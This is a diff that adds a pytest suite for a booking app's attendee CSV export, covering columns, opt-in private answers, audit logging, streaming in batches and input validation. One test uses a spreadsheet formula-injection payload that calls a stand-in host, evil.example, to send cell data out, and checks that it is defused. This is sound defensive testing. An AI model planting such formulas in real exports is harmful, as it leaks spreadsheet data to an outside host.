@@ -1,0 +1,196 @@
+"""The CSV export: what Excel and LibreOffice need, no formulas smuggled in, private answers only
+when ticked, streamed in batches, and written to the audit log before a byte leaves."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+
+from retreats.booking.services import AttendeeDetails
+from retreats.extensions import db
+from retreats.organizer import export
+from retreats.organizer.export import COLUMNS, PRIVATE_COLUMNS, major_units, safe_cell
+from tests.organizer.test_attendees import ADA, BEA, CY, audit_actions, booking_for, list_page
+
+
+def export_url(retreat) -> str:
+    return f"/organizer/retreats/{retreat.id}/attendees.csv"
+
+
+def download(client, retreat, **query):
+    response = client.get(export_url(retreat), query_string=query)
+    assert response.status_code == 200
+    return response
+
+
+def parsed(response) -> list[dict[str, str]]:
+    raw = response.get_data()
+    assert raw.startswith(b"\xef\xbb\xbf"), "no UTF-8 byte order mark"
+    text = raw.decode("utf-8-sig")
+    assert "\r\n" in text and "\n" not in text.replace("\r\n", "")
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def test_the_export_has_one_line_per_person_and_no_private_answers_by_default(
+    organizer_client, make_retreat, organizer
+):
+    retreat = make_retreat(slug="heart-weekend")
+    couple = booking_for(retreat, ADA, BEA)
+    single = booking_for(retreat, CY)
+    booking_for(retreat, CY, confirmed=False)  # pending: left out, like on the list
+
+    response = download(organizer_client, retreat)
+
+    assert response.is_streamed
+    assert response.mimetype == "text/csv"
+    assert response.headers["Content-Disposition"] == (
+        'attachment; filename="heart-weekend-attendees.csv"'
+    )
+    rows = parsed(response)
+    assert list(rows[0]) == COLUMNS
+    assert [(row["Booking"], row["Name"], row["Person"]) for row in rows] == [
+        (couple.reference, "Ada Lovelace", "Booker"),
+        (couple.reference, "Bea Lovelace", "Partner"),
+        (single.reference, "Cy Young", "Booker"),
+    ]
+    ada = rows[0]
+    assert ada["Status"] == "confirmed"
+    assert ada["Ticket"] == "Couple (2 people)"
+    assert ada["Contact email"] == "ada@example.org"
+    assert (ada["Currency"], ada["Booking paid"], ada["Booking refunded"]) == (
+        "EUR",
+        "450.00",
+        "0.00",
+    )
+    assert ada["Dietary needs"] == "Vegetarian" and ada["Checked in"] == ""
+    text = response.get_data(as_text=True)
+    for answer in (ADA.accessibility_needs, ADA.hopes, "7946"):
+        assert answer not in text
+    [entry] = audit_actions(db, "attendees.exported")
+    assert entry.actor_id == organizer.id and entry.retreat_id == retreat.id
+    assert entry.detail.startswith("without private answers")
+
+
+def test_ticking_private_answers_adds_their_columns_and_says_so_in_the_audit_log(
+    organizer_client, make_retreat
+):
+    retreat = make_retreat()
+    booking_for(retreat, ADA, BEA)
+
+    rows = parsed(download(organizer_client, retreat, private="1", status="all"))
+
+    assert list(rows[0]) == COLUMNS + PRIVATE_COLUMNS
+    assert rows[0]["Accessibility needs"] == ADA.accessibility_needs
+    assert rows[0]["Hopes"] == ADA.hopes
+    assert rows[0]["Emergency contact"] == ADA.emergency_contact
+    [entry] = audit_actions(db, "attendees.exported")
+    assert entry.detail == "with private answers; status=all"
+
+
+def test_the_list_page_offers_the_export_with_private_answers_unticked(
+    organizer_client, make_retreat
+):
+    retreat = make_retreat()
+    page = list_page(organizer_client, retreat, status="all")
+    form = page[page.index(f'action="{export_url(retreat)}"') :]
+    form = form[: form.index("</form>")]
+    assert '<input type="hidden" name="status" value="all">' in form
+    assert '<input type="checkbox" name="private" value="1">' in form  # not checked
+    assert "Include private answers" in form
+
+
+def test_cells_a_spreadsheet_would_run_as_formulas_are_defused(organizer_client, make_retreat):
+    retreat = make_retreat()
+    sneaky = AttendeeDetails(
+        name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        email="sneaky@example.org",
+        dietary_needs="@SUM(1+1)",
+        emergency_contact="+44 20 7946 0000",
+        hopes="-2+3",
+    )
+    booking_for(retreat, sneaky)
+
+    [row] = parsed(download(organizer_client, retreat, private="1"))
+
+    assert row["Name"] == "'" + sneaky.name
+    assert row["Contact name"] == "'" + sneaky.name
+    assert row["Dietary needs"] == "'@SUM(1+1)"
+    assert row["Emergency contact"] == "'+44 20 7946 0000"
+    assert row["Hopes"] == "'-2+3"
+    assert row["Email"] == "sneaky@example.org"
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@A1", "'@A1"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("a=1", "a=1"),
+        ("Zoë", "Zoë"),
+        ("", ""),
+        (None, ""),
+    ],
+)
+def test_safe_cell(value, cell):
+    assert safe_cell(value) == cell
+
+
+@pytest.mark.parametrize(
+    ("amount", "currency", "text"),
+    [(45_000, "EUR", "450.00"), (5, "USD", "0.05"), (0, "GBP", "0.00"), (5000, "JPY", "5000")],
+)
+def test_amounts_are_plain_numbers_in_major_units(amount, currency, text):
+    assert major_units(amount, currency) == text
+
+
+def test_accents_and_line_breaks_survive_the_round_trip(organizer_client, make_retreat):
+    retreat = make_retreat()
+    booking_for(
+        retreat,
+        AttendeeDetails(
+            name="Zoë Ødegård", email="zoe@example.org", dietary_needs='No "dairy"\nNo gluten'
+        ),
+    )
+
+    [row] = parsed_allowing_breaks(download(organizer_client, retreat))
+
+    assert row["Name"] == "Zoë Ødegård"
+    assert row["Dietary needs"] == 'No "dairy"\nNo gluten'
+
+
+def parsed_allowing_breaks(response) -> list[dict[str, str]]:
+    text = response.get_data().decode("utf-8-sig")
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def test_rows_are_read_and_sent_in_batches_after_the_audit_entry_is_written(
+    organizer_client, make_retreat, monkeypatch
+):
+    monkeypatch.setattr(export, "BATCH_SIZE", 2)
+    retreat = make_retreat(capacity=20)
+    for _ in range(5):
+        booking_for(retreat, CY)
+
+    response = organizer_client.get(export_url(retreat), buffered=False)
+
+    # Nothing has been read from the bookings yet, but the export is already on record.
+    assert response.is_streamed
+    assert len(audit_actions(db, "attendees.exported")) == 1
+    chunks = list(response.response)
+    response.close()
+    assert len(chunks) == 1 + 3  # the header, then batches of 2, 2 and 1 people
+    assert [chunk.count(b"\r\n") for chunk in chunks] == [1, 2, 2, 1]
+
+
+@pytest.mark.parametrize("query", [{"status": "nope"}, {"q": "x" * 1000}])
+def test_a_bad_filter_is_a_400_and_nothing_is_recorded(organizer_client, make_retreat, query):
+    retreat = make_retreat()
+    response = organizer_client.get(export_url(retreat), query_string=query)
+    assert response.status_code == 400
+    assert audit_actions(db, "attendees.exported") == []
